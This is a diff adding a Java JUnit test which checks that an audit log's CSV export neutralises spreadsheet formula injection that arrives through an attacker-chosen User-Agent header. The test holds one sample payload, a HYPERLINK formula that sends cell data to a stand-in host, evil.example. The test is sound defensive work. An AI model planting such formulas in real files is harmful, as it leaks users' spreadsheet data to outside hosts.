@@ -176,6 +176,23 @@ class AuditorApiTest extends CodeFlowTestBase {
         assertThat(csv.lines().findFirst().orElseThrow()).startsWith("position,occurred_at,event_type");
     }
 
+    /**
+     * Issue 18, item 16: a user agent an attacker chose, recorded with a refused request, is exported as text a
+     * spreadsheet will not run (OWASP CSV injection): a cell that begins with = + - @ tab or CR gets a leading quote.
+     */
+    @Test
+    void anAttackersUserAgentIsNotAFormulaInTheCsvExport_OWASPCsvInjection() {
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        ledger.raw(HttpRequest.newBuilder(ledger.uri("/oauth2/token")).header("User-Agent", formula)
+                              .header("Content-Type", "application/x-www-form-urlencoded")
+                              .POST(HttpRequest.BodyPublishers.ofString("grant_type=client_credentials&client_id=x")));
+        awaitAuditLogCaughtUp();
+
+        String csv = raw("/ledger/audit?event_type=ClientAuthenticationFailed", "text/csv").body();
+
+        assertThat(csv).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+    }
+
     /** The API redacts in Java, the analysts' view in SQL: one rule, so the same details for every event. */
     @Test
     void analystsAndAuditorsSeeTheSameDetails() {
